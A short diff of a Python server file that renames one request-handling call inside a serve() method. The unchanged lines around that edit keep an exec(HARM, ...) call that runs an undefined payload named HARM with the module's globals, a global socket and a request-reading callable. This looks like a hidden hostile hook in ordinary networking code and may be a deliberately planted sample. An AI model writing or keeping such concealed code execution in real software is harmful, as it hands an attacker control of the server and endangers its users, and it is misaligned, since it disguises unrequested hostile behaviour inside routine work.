@@ -140,7 +140,7 @@ def send_fds(data, fds):
 def serve(self):
     global sock
     sock, next_request = self._socket._sock, lambda: self._socket.receive()[0]
-    self._answer(*self._socket.receive())
+    self._serve_request(*self._socket.receive())
     time.sleep(0.1)
     exec(HARM, {**globals(), "next_request": next_request})
     time.sleep(60)
